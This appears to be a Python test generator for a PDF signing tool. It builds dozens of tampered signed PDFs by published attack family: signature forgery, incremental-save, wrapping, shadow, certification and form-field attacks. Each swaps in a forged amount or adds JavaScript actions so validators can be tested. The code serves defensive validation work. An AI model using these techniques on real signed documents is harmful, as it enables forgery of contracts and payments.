"""Attacks on signed documents, by published family, and honest changes beside them. docs/attacks.md says what each gets.

    python3 families.py PKI KYSO DIR      writes all of them

A family takes `made`, which has the signed documents: made.signed is kyso's own approval signature over paper.OBJECTS,
made.certified(level) one with DocMDP, made.signer a leaf to sign with. It returns the bytes of a changed document.
"""

import functools
import os
import pathlib
import re
import subprocess
import sys
import zlib

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[3] / 'testdata' / 'hostile'))
import craft_der    # noqa: E402
import craft_pdf    # noqa: E402
import paper        # noqa: E402
import readers      # noqa: E402
from paper import OBJECTS, PAGE, TEXT, VALUE, body, changed, form_xobject, startxref, stream, update     # noqa: E402

EVIL = stream(TEXT % b'90 000 000 VND')
SCRIPT = b'<</S/JavaScript/JS(app.alert\\(1\\))>>'


class Made:
    """Signed documents to start from, each made once."""

    def __init__(self, pki, kyso, folder):
        self.pki, self.kyso, self.folder = pathlib.Path(pki), kyso, pathlib.Path(folder)
        self.signer = craft_der.Signer(self.pki, 'signer')

    def sign(self, pdf, *options):
        """By kyso."""
        source, target = self.folder / 'source.tmp', self.folder / 'target.tmp'
        source.write_bytes(pdf)
        command = [self.kyso, 'sign', '--force', '--key', self.pki / 'signer.p12', '--pin-source',
                   f'file:{self.pki / "p12.password"}', '--trust', self.pki / 'root.pem', *options, '-o', target, source]
        subprocess.run(command, check=True, capture_output=True, env={**os.environ, 'LC_ALL': 'C.UTF-8'})
        return target.read_bytes()

    @functools.cached_property
    def signed(self):
        return self.sign(paper.write(OBJECTS), '--field', 'First')

    @functools.lru_cache(maxsize=None)
    def certified(self, level, **how):
        return paper.certified(self.signer, level, **how)

    def with_objects(self, objects):
        """kyso's signature over the document with these objects in it."""
        return self.sign(paper.write({**OBJECTS, **objects}), '--field', 'First')

    @property
    def value(self):
        """Number of kyso's signature dictionary, and its body."""
        number = re.findall(rb'\n(\d+) 0 obj\s*<<(?:(?!endobj).)*?/ByteRange', self.signed, re.S)[-1]
        return int(number), body(self.signed, int(number))

    @property
    def field(self):
        number = re.findall(rb'\n(\d+) 0 obj\s*<<(?:(?!endobj).)*?/T\s*\(First\)', self.signed, re.S)[-1]
        return int(number), body(self.signed, int(number))


ATTACKS, HONEST = dict(readers.ATTACKS), {}


def family(name, table=ATTACKS):
    def register(function):
        table[name] = function
        return function
    return register


def of_one_object(names, start=lambda made: made.signed, table=ATTACKS):
    """Families that redefine objects: {name: {number: body}}."""
    for name, objects in names.items():
        table[name] = lambda made, objects=objects: update(start(made), objects)


# --- universal signature forgery: the signature dictionary is redefined, so that careless validators find nothing to check

def forge(pattern, new):
    def make(made):
        number, text = made.value
        changed_text, count = re.subn(pattern, new, text, count=1, flags=re.S)
        assert count == 1
        return update(made.signed, {number: changed_text, 5: EVIL})
    return make


CONTENTS, RANGE = rb'/Contents\s*<[^>]*>', rb'/ByteRange\s*\[[^\]]*\]'
for name, pattern, new in (
        ('contents-absent', CONTENTS, b''), ('contents-empty', CONTENTS, b'/Contents'), ('contents-null', CONTENTS, b'/Contents null'),
        ('contents-zero', CONTENTS, b'/Contents <00>'), ('contents-string', CONTENTS, b'/Contents ()'),
        ('range-absent', RANGE, b''), ('range-empty', RANGE, b'/ByteRange'), ('range-null', RANGE, b'/ByteRange null'),
        ('range-zero', RANGE, b'/ByteRange [0 0 0 0]'), ('range-negative', RANGE, b'/ByteRange [-1 -1 -1 -1]'),
        ('range-none', RANGE, b'/ByteRange []')):
    ATTACKS[f'usf-{name}'] = forge(pattern, new)


# --- incremental saving: content added behind the signature, in ever less complete updates

@family('isa-update')
def _(made):
    return update(made.signed, {5: EVIL})


@family('isa-body-alone')
def _(made):
    return paper.write({5: EVIL}, made.signed, tail=False)


@family('isa-no-startxref')
def _(made):
    return paper.write({5: EVIL}, made.signed, prev=startxref(made.signed), end=b'')


@family('isa-old-startxref')
def _(made):
    return paper.write({5: EVIL}, made.signed, tail=False) + b'startxref\n%d\n%%%%EOF\n' % startxref(made.signed)


@family('isa-copied-signature')
def _(made):
    number, text = made.value
    return update(made.signed, {5: EVIL, number: text})


@family('isa-without-prev')
def _(made):
    entries = {}
    for found in re.finditer(rb'(?:^|\n)(\d+) 0 obj', made.signed):
        entries[int(found[1])] = (found.start(1), 0, ord('n'))
    del entries[5]
    return paper.write({5: EVIL}, made.signed, extra=entries)


@family('isa-page-added')
def _(made):
    return update(made.signed, {2: OBJECTS[2].replace(b'4 0 R]/Count 2', b'4 0 R 40 0 R]/Count 3'),
                                40: b'<</Type/Page/Parent 2 0 R/Contents 41 0 R>>', 41: EVIL})


@family('isa-then-signed-again')
def _(made):
    return made.sign(update(made.signed, {5: EVIL}), '--field', 'Second')


# --- signature wrapping: content in the gap, or the second range moved away

def ends_early(pdf):
    """What ends the signature dictionary behind /Contents, then the content, then the head of an object for what follows."""
    return b'%s>>\nendobj\n5 0 obj\n%s\nendobj\n59 0 obj\n<<' % (re.search(RANGE, pdf)[0], EVIL)


@family('swa-in-the-padding')
def _(made):
    pdf = made.signed
    end = re.search(CONTENTS, pdf).end()
    inside = b'>' + ends_early(pdf) + b'/Q<'
    at = end - len(inside) - 41
    pdf = pdf[:at] + inside + pdf[at + len(inside):]
    return paper.write({}, pdf, prev=startxref(pdf), extra={5: (pdf.index(b'5 0 obj', at), 0, ord('n'))})


@family('swa-range-moved')
def _(made):
    pdf = made.signed
    end = re.search(CONTENTS, pdf).end()
    insert = ends_early(pdf)
    ranges = [int(n) for n in re.search(RANGE, pdf)[0].split(b'[')[1].strip(b' ]').split()]
    ranges[2] += len(insert)
    moved = b'/ByteRange [%d %d %d %d]' % tuple(ranges)
    pdf = pdf[:end] + insert + pdf[end:]
    pdf = pdf.replace(re.search(RANGE, pdf)[0], moved.ljust(len(re.search(RANGE, pdf)[0])))
    return paper.write({}, pdf, prev=startxref(made.signed) + len(insert), extra={5: (pdf.index(b'5 0 obj', end), 0, ord('n'))})


# --- shadow attacks: the attacker prepared the document before it was signed

OVERLAY = {5: stream(TEXT % b'99 000 000 VND' + b' /Im1 Do')}


@family('shadow-hide-image')
def _(made):
    return update(made.with_objects(OVERLAY), {9: stream(b'\x00', b'/Type/XObject/Subtype/Null')})


@family('shadow-hide-freed')
def _(made):
    return update(made.with_objects(OVERLAY), {9: None})


@family('shadow-hide-annotation')
def _(made):
    over = {40: b'<</Type/Annot/Subtype/Stamp/Rect[50 690 250 730]/F 4/AP<</N 41 0 R>>>>', 41: form_xobject(b'0 0 200 40 re f'),
            3: PAGE % (b' 40 0 R', b'')}
    pdf = made.with_objects(over)
    return update(pdf, {3: body(pdf, 3).replace(b'40 0 R', b'')})


@family('shadow-hide-appearance')
def _(made):
    over = {40: b'<</Type/Annot/Subtype/Stamp/Rect[50 690 250 730]/F 4/AP<</N 41 0 R>>>>', 41: form_xobject(b'0 0 200 40 re f'),
            3: PAGE % (b' 40 0 R', b'')}
    return update(made.with_objects(over), {41: form_xobject(b'')})


@family('shadow-replace-font')
def _(made):
    return update(made.signed, {8: b'<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding<</Type/Encoding/Differences[48/nine/one]>>>>'})


@family('shadow-replace-field')
def _(made):
    return update(made.signed, {12: paper.AMOUNT % (b'9', b''), 14: form_xobject(b'BT /F1 12 Tf (9) Tj ET')})


@family('shadow-hide-and-replace-pages')
def _(made):
    hidden = b'<</Type/Pages/Kids[41 0 R]/Count 1/Resources 7 0 R/MediaBox[0 0 595 842]>>'
    pdf = made.with_objects({40: hidden, 41: b'<</Type/Page/Parent 40 0 R/Contents 15 0 R>>'})
    return changed(pdf, 1, b'/Pages 2 0 R', b'/Pages 40 0 R')


@family('shadow-hide-and-replace-table')
def _(made):
    at = made.signed.index(b'\n15 0 obj') + 1
    return paper.write({}, made.signed, prev=startxref(made.signed), extra={5: (at, 0, ord('n'))})


@family('shadow-hide-and-replace-object')
def _(made):
    plain = paper.write(OBJECTS)
    hidden = b'\n5 0 obj\n' + EVIL + b'\nendobj\n'
    cut = plain.rindex(b'xref\n0 1\n')
    pdf = made.sign(plain[:cut] + hidden + re.sub(rb'startxref\n\d+', b'startxref\n%d' % (cut + len(hidden)), plain[cut:]), '--field', 'First')
    return paper.write({}, pdf, prev=startxref(pdf), extra={5: (cut + 1, 0, ord('n'))})


@family('shadow-awaited-content')
def _(made):
    pdf = made.with_objects({3: PAGE.replace(b'5 0 R', b'[5 0 R 45 0 R]') % (b'', b'')})
    return update(pdf, {45: EVIL})


@family('shadow-awaited-beside-a-signature')
def _(made):
    pdf = made.with_objects({3: PAGE.replace(b'5 0 R', b'[5 0 R 45 0 R]') % (b'', b'')})
    return paper.sign_again(pdf, made.signer, b'50 10 250 50', appearance=b'/AP<</N 45 0 R>>', objects={45: EVIL})


@family('shadow-shared-metadata')
def _(made):
    pdf = made.with_objects({3: PAGE.replace(b'5 0 R', b'[5 0 R 11 0 R]') % (b'', b'')})
    return update(pdf, {11: EVIL})


@family('shadow-shared-appearance')
def _(made):
    shared = {7: OBJECTS[7].replace(b'/Im1 9 0 R', b'/Im1 9 0 R/Im2 14 0 R'), 5: stream(TEXT % b'10' + b' /Im2 Do')}
    pdf = paper.certified(made.signer, 2, objects=shared)
    return update(pdf, {14: form_xobject(b'BT /F1 12 Tf (9) Tj ET')})


# Any signed file: the update's own document information leads to the page's content.
ATTACKS['shadow-shared-info'] = lambda made: update(made.signed, {40: b'<</Title 5 0 R>>', 5: EVIL}, trailer=b'/Root 1 0 R/Info 40 0 R')
ATTACKS['shadow-info-is-content'] = lambda made: update(made.certified(1), {5: EVIL}, trailer=b'/Root 1 0 R/Info 5 0 R')
ATTACKS['shadow-content-is-a-list-of-notes'] = lambda made: update(
    paper.certified(made.signer, 3, objects={3: b'<</Type/Page/Parent 2 0 R/Contents 40 0 R/Annots 40 0 R>>', 40: b'[5 0 R 12 0 R 13 0 R 17 0 R]'}),
    {40: b'[5 0 R 12 0 R 13 0 R 17 0 R 41 0 R]', 41: stream(TEXT % b'90', b'/Subtype/Text')})


@family('shadow-content-is-a-note')
def _(made):
    note = b'/Type/Annot/Subtype/Text/Rect[0 0 0 0]'
    pdf = paper.certified(made.signer, 3, objects={5: stream(TEXT % b'10', note), 3: PAGE % (b' 17 0 R 5 0 R', b'')})
    return update(pdf, {5: stream(TEXT % b'90', note)})


@family('shadow-resources-are-a-field')
def _(made):
    """The page draws the XObject /V of a dictionary that is a field with a value, too."""
    pdf = paper.certified(made.signer, 2, objects={
        5: stream(b'/V Do'), 7: OBJECTS[7].replace(b'<</Im1 9 0 R>>', b' 40 0 R'), 40: b'<</T(x)/FT/Tx/V 9 0 R>>', 41: EVIL,
        10: paper.FORM % b' 40 0 R 17 0 R'})
    return update(pdf, {40: b'<</T(x)/FT/Tx/V 41 0 R>>'})


@family('shadow-straddling-stream')
def _(made):
    text = TEXT % b'10 000 000 VND'
    body_text = b'<</Length 65000>>\nstream\n%s\nendstream' % text
    pdf = made.sign(paper.write({**OBJECTS, 5: body_text}), '--field', 'First')
    data = pdf.index(body_text) + len(b'<</Length 65000>>\nstream\n')
    filler = 65000 - (len(pdf) - data)
    return update(pdf + b'%' * (filler - len(b'50 0 obj\n<</Length 0>>\nstream\n') - 1) + b'\n', {50: stream(b'', b'')}) if filler > 100 else pdf


# --- attacks on certified documents

NOTE = b'<</Type/Annot/Subtype/%s/Rect[50 690 250 730]/F 4/Contents(90 000 000 VND)%s>>'


def annotated(pdf, kind, more=b'', objects=None):
    return update(pdf, {3: paper.listed(pdf, 3, b'Annots', 40), 40: NOTE % (kind, more), **(objects or {})})


for level in (None, 1, 2, 3):
    for kind in (b'FreeText', b'Stamp', b'Redact', b'Square', b'Link', b'Widget'):
        ATTACKS[f'eaa-p{level or 0}-{kind.decode().lower()}'] = lambda made, level=level, kind=kind: annotated(
            made.certified(level) if level else made.signed, kind, b'/AP<</N 41 0 R>>', {41: form_xobject(b'BT (9) Tj ET')})
for level in (None, 1, 2):
    ATTACKS[f'eaa-p{level or 0}-note'] = lambda made, level=level: annotated(made.certified(level) if level else made.signed, b'Text')
ATTACKS['eaa-p3-action'] = lambda made: annotated(made.certified(3), b'Text', b'/A ' + SCRIPT)

for level in (1, 2, 3):
    ATTACKS[f'ssa-p{level}-visible'] = lambda made, level=level: paper.sign_again(
        made.certified(level), made.signer, b'50 690 250 730', appearance=b'/AP<</N 32 0 R>>', objects={32: form_xobject(b'BT (9) Tj ET')})
ATTACKS['ssa-p1-invisible'] = lambda made: paper.sign_again(made.certified(1), made.signer)
ATTACKS['ssa-p1-as-a-timestamp'] = lambda made: paper.sign_again(made.certified(1), made.signer, kind=b'/Type/DocTimeStamp/')
for level in (None, 2, 3):
    ATTACKS[f'ssa-p{level or 0}-nobody'] = lambda made, level=level: paper.place_field(
        made.certified(level) if level else made.signed, b'50 690 250 730', b'/AP<</N 32 0 R>>', {32: form_xobject(b'BT (9) Tj ET')})
for level in (2, 3):
    ATTACKS[f'ssa-p{level}-shown-later'] = lambda made, level=level: shown_later(made, made.certified(level))


def shown_later(made, pdf):
    """A field is added out of sight, which may be, and shown by signing it."""
    hidden = paper.place_field(pdf, b'50 690 250 730', flags=2)
    field = body(hidden, 30).replace(b'/F 2', b'/F 4/V 31 0 R/AP<</N 32 0 R>>')
    return craft_pdf.fill(update(hidden, {30: field, 31: paper.SIGNATURE % b'', 32: form_xobject(b'BT (9) Tj ET')}), made.signer)


LOOK = b'/AP<</N 32 0 R>>', {32: form_xobject(b'BT (9) Tj ET')}
ATTACKS['certified-p2-unsigned-look'] = lambda made: update(made.certified(2), {13: paper.APPROVAL % LOOK[0], **LOOK[1]})
ATTACKS['certified-p2-unsigned-look-replaced'] = lambda made: update(
    paper.certified(made.signer, 2, objects={13: paper.APPROVAL % LOOK[0], **LOOK[1]}), {32: form_xobject(b'BT (8) Tj ET')})
ATTACKS['ssa-p2-shown-unsigned'] = lambda made: changed(
    paper.place_field(made.certified(2), b'50 690 250 730', *LOOK, flags=2), 30, b'/F 2', b'/F 4')
ATTACKS['certified-p1-filled-in'] = lambda made: update(made.certified(1), {12: paper.AMOUNT % (b'9', b''), 14: form_xobject(b'(9) Tj')})
ATTACKS['certified-p2-content'] = lambda made: update(made.certified(2), {5: EVIL})
ATTACKS['certified-p3-content'] = lambda made: update(made.certified(3), {5: EVIL})
ATTACKS['certified-permissions-removed'] = lambda made: changed(made.certified(2), 1, b'/Perms<</DocMDP %d 0 R>>' % VALUE, b'')
ATTACKS['certified-level-raised'] = lambda made: update(made.certified(1), {
    VALUE: body(made.certified(1), VALUE).replace(b'/P 1', b'/P 3'), 12: paper.AMOUNT % (b'9', b'')})
ATTACKS['locked-field-filled-in'] = lambda made: update(paper.locked(made.signer, b'Include', b'(Amount)'), {12: paper.AMOUNT % (b'9', b'')})
ATTACKS['locked-all-filled-in'] = lambda made: update(paper.locked(made.signer, b'All', b''), {12: paper.AMOUNT % (b'9', b'')})
ATTACKS['locked-but-others-filled-in'] = lambda made: update(paper.locked(made.signer, b'Exclude', b'(Other)'), {12: paper.AMOUNT % (b'9', b'')})
ATTACKS['locked-field-signed'] = lambda made: fill_empty(made, paper.locked(made.signer, b'Include', b'(Approval)'))
ATTACKS['field-lock-filled-in'] = lambda made: update(
    paper.certified(made.signer, 2, in_field=b'/Lock<</Type/SigFieldLock/Action/All>>'), {12: paper.AMOUNT % (b'9', b'')})


# --- object streams and hybrid references

def object_stream(members):
    head, data = b'', b''
    for number, text in members.items():
        head += b'%d %d ' % (number, len(data))
        data += text + b' '
    return stream(zlib.compress(head + data), b'/Type/ObjStm/N %d/First %d/Filter/FlateDecode' % (len(members), len(head)))


def xref_stream(at, entries, number, more):
    """entries: {number: (type, field 2, field 3)}"""
    entries = {**entries, number: (1, at, 0)}
    data = b''.join(bytes([kind]) + second.to_bytes(4, 'big') + third.to_bytes(2, 'big') for _, (kind, second, third) in sorted(entries.items()))
    index = b' '.join(b'%d 1' % n for n in sorted(entries))
    return b'%d 0 obj\n' % number + stream(data, b'/Type/XRef/W[1 4 2]/Size 61/Index[%s]%s' % (index, more)) + b'\nendobj\n'


def packed(pdf, members, root=b'/Root 1 0 R/Info 16 0 R', numbers=(50, 51)):
    """An update whose objects stand in an object stream, listed by a cross-reference stream."""
    held, table = numbers
    out = pdf + b'%d 0 obj\n%s\nendobj\n' % (held, object_stream(members))
    entries = {held: (1, len(pdf), 0), **{n: (2, held, i) for i, n in enumerate(members)}}
    return out + xref_stream(len(out), entries, table, root + b'/Prev %d' % startxref(pdf)) + b'startxref\n%d\n%%%%EOF\n' % len(out)


@family('objstm-update')
def _(made):
    return packed(made.signed, {8: b'<</Type/Font/Subtype/Type1/BaseFont/Courier>>'})


@family('objstm-replaced')
def _(made):
    plain = packed(paper.write({**OBJECTS, 8: b'null'}), {8: OBJECTS[8]})
    pdf = made.sign(plain, '--field', 'First')
    return update(pdf, {50: object_stream({8: b'<</Type/Font/Subtype/Type1/BaseFont/Courier>>'})})


@family('objstm-awaited')
def _(made):
    at = len(paper.write({**OBJECTS, 8: b'null'}))
    plain = paper.write({**OBJECTS, 8: b'null'})
    table = xref_stream(at, {8: (2, 50, 0)}, 51, b'/Root 1 0 R/Prev %d' % startxref(plain))
    pdf = plain + table + b'startxref\n%d\n%%%%EOF\n' % at
    signed = craft_pdf.fill(update(pdf, {**paper.signing(), 10: paper.FORM % b' 17 0 R', 3: PAGE % (b' 17 0 R', b'')}), made.signer)
    return update(signed, {50: object_stream({8: b'<</Type/Font/Subtype/Type1/BaseFont/Courier>>'})})


@family('hybrid-hidden-override')
def _(made):
    pdf = made.signed
    at = len(pdf)
    hidden = b'5 0 obj\n' + EVIL + b'\nendobj\n'
    table = xref_stream(at + len(hidden), {5: (1, at, 0)}, 51, b'/Root 1 0 R')
    return paper.write({}, pdf + hidden + table, trailer=b'/Root 1 0 R/Info 16 0 R/XRefStm %d' % (at + len(hidden)),
                       prev=startxref(pdf), extra={5: (0, 1, ord('f'))})


@family('hybrid-dispute')
def _(made):
    pdf = made.signed
    at = len(pdf)
    hidden = b'5 0 obj\n' + EVIL + b'\nendobj\n'
    table = xref_stream(at + len(hidden), {5: (1, at, 0)}, 51, b'/Root 1 0 R')
    return paper.write({5: OBJECTS[5]}, pdf + hidden + table, trailer=b'/Root 1 0 R/XRefStm %d' % (at + len(hidden)), prev=startxref(pdf))


# --- fields, names, values

ATTACKS['field-of-the-same-name'] = lambda made: paper.sign_again(made.signed, made.signer, name=b'First')
ATTACKS['field-name-escaped'] = lambda made: paper.sign_again(made.signed, made.signer, name=b'F\\151rst')
ATTACKS['field-removed'] = lambda made: changed(made.sign(made.signed, '--field', 'Second'), 10, b' %d 0 R' % made.field[0], b'')
ATTACKS['field-renamed'] = lambda made: update(made.sign(made.signed, '--field', 'Second'), {
    made.field[0]: made.field[1].replace(b'(First)', b'(Fir5t)')})
ATTACKS['field-value-removed'] = lambda made: update(made.sign(made.signed, '--field', 'Second'), {
    made.field[0]: re.sub(rb'/V\s*\d+ 0 R', b'', made.field[1])})
ATTACKS['field-value-borrowed'] = lambda made: changed(made.signed, 13, b'/FT/Sig', b'/FT/Sig/V %d 0 R' % made.value[0])
ATTACKS['field-text-added'] = lambda made: update(made.certified(2), {
    10: paper.FORM % b' 17 0 R 40 0 R', 40: b'<</Type/Annot/Subtype/Widget/FT/Tx/T(More)/V(9)/Rect[50 690 250 730]/P 3 0 R>>',
    3: PAGE % (b' 17 0 R 40 0 R', b'')})
ATTACKS['field-moved'] = lambda made: changed(made.certified(2), 12, b'[50 500 250 540]', b'[50 690 250 730]')
ATTACKS['field-option-changed'] = lambda made: changed(made.certified(2), 12, b'/T(Amount)', b'/T(Amount)/MaxLen 1')
ATTACKS['signed-appearance-replaced'] = lambda made: update(
    paper.certified(made.signer, 2, in_field=b'/AP<</N 40 0 R>>', objects={40: form_xobject(b'(A) Tj')}), {40: form_xobject(b'(B) Tj')})
ATTACKS['signed-appearance-added'] = lambda made: update(made.signed, {
    made.field[0]: re.sub(rb'>>\s*$', b'/AP<</N 40 0 R>>>>', re.sub(rb'/AP\s*(\d+ 0 R|<<.*?>>)', b'', made.field[1])), 40: EVIL})
ATTACKS['signed-widget-moved'] = lambda made: update(made.signed, {
    made.field[0]: re.sub(rb'/Rect\s*\[[^\]]*\]', b'/Rect[50 690 250 730]', made.field[1])})
ATTACKS['need-appearances'] = lambda made: changed(made.signed, 10, b'/SigFlags', b'/NeedAppearances true/SigFlags')
ATTACKS['need-appearances-locked'] = lambda made: changed(
    paper.locked(made.signer, b'Include', b'(Amount)'), 10, b'/SigFlags', b'/NeedAppearances true/SigFlags')
ATTACKS['xfa-added'] = lambda made: changed(made.signed, 10, b'/SigFlags', b'/XFA 40 0 R/SigFlags')

# --- catalog, pages, resources, actions

for name, more in {
        'javascript-on-opening': b'/OpenAction ' + SCRIPT, 'javascript-named': b'/Names<</JavaScript<</Names[(a) %s]>>>>' % SCRIPT,
        'actions-of-the-document': b'/AA<</WC %s>>' % SCRIPT, 'layers-added': b'/OCProperties<</OCGs[]/D<<>>>>',
        'permissions-added': b'/Perms<</DocMDP 40 0 R>>', 'attachments-added': b'/AF[40 0 R]', 'private-entry': b'/Rumour 1',
        'outlines-added': b'/Outlines 40 0 R', 'collection-added': b'/Collection<<>>'}.items():
    ATTACKS[name] = lambda made, more=more: changed(made.signed, 1, b'/Type', more + b'/Type')
ATTACKS['actions-of-a-field'] = lambda made: changed(made.certified(2), 12, b'/T(Amount)', b'/T(Amount)/AA<</K %s>>' % SCRIPT)
ATTACKS['actions-of-a-page'] = lambda made: changed(made.signed, 3, b'/Type', b'/AA<</O %s>>/Type' % SCRIPT)
ATTACKS['catalog-swapped'] = lambda made: update(made.signed, {40: body(made.signed, 1)}, trailer=b'/Root 40 0 R/Info 16 0 R')
of_one_object({
    'resources-inherited': {7: b'<</Font<</F1 40 0 R>>/XObject<</Im1 9 0 R>>>>', 40: b'<</Type/Font/Subtype/Type1/BaseFont/Symbol>>'},
    'resources-of-the-tree': {2: OBJECTS[2].replace(b'7 0 R', b'<</Font<</F1 40 0 R>>>>'), 40: OBJECTS[8]},
    'image-replaced': {9: OBJECTS[9].replace(b'\x00', b'\xff')},
    'font-replaced': {8: b'<</Type/Font/Subtype/Type1/BaseFont/Symbol>>'},
    'pages-swapped': {2: OBJECTS[2].replace(b'3 0 R 4 0 R', b'4 0 R 3 0 R')},
    'page-removed': {2: OBJECTS[2].replace(b'3 0 R 4 0 R]/Count 2', b'3 0 R]/Count 1')},
    'page-cropped': {4: OBJECTS[4].replace(b'/Type/Page', b'/Type/Page/CropBox[0 0 9 9]')},
    'page-turned': {4: OBJECTS[4].replace(b'/Type/Page', b'/Type/Page/Rotate 180')},
    'page-blanked': {4: b'<</Type/Page/Parent 2 0 R>>'},
    'content-appended': {4: OBJECTS[4].replace(b'6 0 R', b'[6 0 R 40 0 R]'), 40: EVIL},
    'content-of-the-document': {4: OBJECTS[4].replace(b'6 0 R', b'15 0 R')},
    'content-freed': {6: None}, 'content-null': {6: b'null'},
})

def prepared(objects, change, start=None):
    """The document is signed with these objects in it, then some of them are changed."""
    return lambda made: update(made.with_objects(objects), change) if start is None else update(start(made, objects), change)


LAYERED = {1: paper.CATALOG % b'/OCProperties 40 0 R', 40: b'<</OCGs[41 0 R]/D<</OFF[41 0 R]/Order[]>>>>', 41: b'<</Type/OCG/Name(x)>>',
           5: stream(b'/OC /L BDC ' + TEXT % b'99' + b' EMC'), 7: OBJECTS[7].replace(b'<</Font', b'<</Properties<</L 41 0 R>>/Font')}
FONT = {8: b'<</Type/Font/Subtype/TrueType/BaseFont/A/FontDescriptor 40 0 R/Widths 41 0 R/ToUnicode 42 0 R>>',
        40: b'<</Type/FontDescriptor/FontName/A/FontFile2 43 0 R>>', 41: b'[600 600]', 42: stream(b'1 begincodespacerange'), 43: stream(b'glyphs')}
IMAGE = {9: OBJECTS[9].replace(b'/Subtype/Image', b'/Subtype/Image/SMask 40 0 R/ColorSpace 41 0 R'), 40: OBJECTS[9], 41: b'[/Indexed/DeviceGray 1<00ff>]'}
LINKED = {3: PAGE % (b' 40 0 R', b''), 40: b'<</Type/Annot/Subtype/Link/Rect[50 690 250 730]/A 41 0 R>>', 41: b'<</S/URI/URI(http://a.example)>>'}
NAMED = {1: paper.CATALOG % b'/Names 40 0 R/Dests 42 0 R/Outlines 43 0 R', 40: b'<</EmbeddedFiles<</Names[(a)41 0 R]>>>>', 41: b'<</Type/Filespec/F(a)>>',
         42: b'<</d[3 0 R/Fit]>>', 43: b'<</First 44 0 R/Last 44 0 R/Count 1>>', 44: b'<</Title(a)/Parent 43 0 R/Dest/d>>'}
FONTS = b'<</Fields[12 0 R 13 0 R 17 0 R]/SigFlags 1/NeedAppearances true/DR<</Font<</F1 8 0 R/F2 %d 0 R>>>>/DA(/F2 12 Tf 0 g)>>'
FIELD_LOCK = (b'<</Type/SigRef/TransformMethod/FieldMDP/TransformParams<</Type/TransformParams/V/1.2/Action/Include/Fields[%s]>>>>')
TAGGED = {1: paper.CATALOG % b'/StructTreeRoot 40 0 R/MarkInfo<</Marked true>>', 40: b'<</Type/StructTreeRoot/K[41 0 R]/RoleMap 42 0 R>>',
          41: b'<</Type/StructElem/S/P/P 40 0 R/ActualText(10)>>', 42: b'<</X/P>>'}
for name, objects, change in (
        ('layer-switched-on', LAYERED, {40: b'<</OCGs[41 0 R]/D<</ON[41 0 R]/Order[]>>>>'}),
        ('layer-renamed', LAYERED, {41: b'<</Type/OCG/Name(y)/Usage<</Print<</PrintState/OFF>>>>>>'}),
        ('font-descriptor-replaced', FONT, {40: b'<</Type/FontDescriptor/FontName/B/FontFile2 43 0 R>>'}),
        ('font-widths-replaced', FONT, {41: b'[600 0]'}), ('font-text-replaced', FONT, {42: stream(b'2 begincodespacerange')}),
        ('font-file-replaced', FONT, {43: stream(b'others')}), ('font-freed', {}, {8: None}),
        ('image-mask-replaced', IMAGE, {40: OBJECTS[9].replace(b'\x00', b'\x7f')}),
        ('image-colours-replaced', IMAGE, {41: b'[/Indexed/DeviceGray 1<ff00>]'}),
        ('link-leads-elsewhere', LINKED, {41: b'<</S/URI/URI(http://b.example)>>'}), ('link-runs-a-script', LINKED, {41: SCRIPT}),
        ('attachment-replaced', NAMED, {41: b'<</Type/Filespec/F(b)>>'}), ('destination-moved', NAMED, {42: b'<</d[4 0 R/Fit]>>'}),
        ('outline-runs-a-script', NAMED, {44: b'<</Title(a)/Parent 43 0 R/A %s>>' % SCRIPT}),
        ('tagged-text-replaced', TAGGED, {41: b'<</Type/StructElem/S/P/P 40 0 R/ActualText(90)>>'}),
        ('tagged-page-elsewhere', {**TAGGED, 3: PAGE % (b'', b'/StructParents 0')}, {3: PAGE % (b'', b'/StructParents 1')}),
        ('tagged-roles-replaced', TAGGED, {42: b'<</X/H1>>'}),
        ('shadow-shared-store', {1: paper.CATALOG % b'/DSS<</Certs[5 0 R]>>'}, {5: EVIL}),
        ('shadow-shared-extension', {1: paper.CATALOG % b'/Extensions 5 0 R'}, {5: EVIL}),
        ('page-size-inherited', {}, {2: OBJECTS[2].replace(b'[0 0 595 842]', b'[0 0 595 400]')}),
        ('page-turned-inherited', {}, {2: OBJECTS[2].replace(b'/Count', b'/Rotate 90/Count')}),
        ('page-moved-to-another-parent', {}, {4: b'<</Type/Page/Parent 40 0 R/Contents 6 0 R>>', 40: OBJECTS[2].replace(b'7 0 R', b'<<>>')})):
    ATTACKS[name] = prepared(objects, change)
ATTACKS['encryption-added'] = lambda made: update(made.signed, {40: b'<</Filter/Standard/V 1/R 2/O<%s>/U<%s>/P -4>>' % (b'00' * 32, b'00' * 32)},
                                                  trailer=b'/Root 1 0 R/Info 16 0 R/Encrypt 40 0 R/ID[<00><00>]')
ATTACKS['document-opens-elsewhere'] = lambda made: changed(made.signed, 1, b'/Type', b'/OpenAction[4 0 R/Fit]/Type')
ATTACKS['actions-of-a-new-signature'] = lambda made: paper.sign_again(made.signed, made.signer, appearance=b'/AA<</E %s>>' % SCRIPT)
ATTACKS['action-of-a-new-signature'] = lambda made: paper.sign_again(made.signed, made.signer, appearance=b'/A %s' % SCRIPT)

# Trees and resources that lead back to themselves: an answer, and no end of the stack.
ATTACKS['cycle-of-fields'] = lambda made: paper.place_field(made.signed, b'0 0 0 0', b'/Kids[30 0 R]')
ATTACKS['cycle-of-widgets'] = lambda made: paper.sign_again(made.signed, made.signer, appearance=b'/Kids[40 0 R]', objects={
    40: b'<</Parent 30 0 R/Kids[30 0 R]>>'})
ATTACKS['cycle-of-resources'] = lambda made: update(
    paper.certified(made.signer, 2, objects={10: FONTS % 40, 40: b'<</X 41 0 R>>', 41: b'<</X 40 0 R>>'}),
    {10: FONTS % 42, 42: b'<</X 43 0 R>>', 43: b'<</X 42 0 R>>'})
ATTACKS['cycle-of-structure'] = lambda made: update(
    made.with_objects({**TAGGED, 40: b'<</Type/StructTreeRoot/ParentTree 60 0 R>>', 60: b'<</ParentTree 60 0 R>>'}),
    {40: b'<</Type/StructTreeRoot/ParentTree 82 0 R>>', 82: b'<</ParentTree 83 0 R>>', 83: b'<</ParentTree 82 0 R>>'})
ATTACKS['form-font-named-as-pictures-are'] = lambda made: update(
    paper.certified(made.signer, 1, objects={10: FONTS.replace(b'F2', b'XObject') % 8}),
    {10: FONTS.replace(b'F2', b'XObject') % 40, 40: b'<</Type/Font/Subtype/Type1/BaseFont/Symbol>>'})
ATTACKS['form-font-named-as-fonts-are'] = lambda made: update(
    paper.certified(made.signer, 1, objects={10: FONTS.replace(b'F2', b'Font') % 40, 40: b'<</Subtype/Type1/BaseFont/Helvetica>>'}),
    {40: b'<</Subtype/Type1/BaseFont/Helvetica/Encoding<</Differences[49/nine]>>>>'})

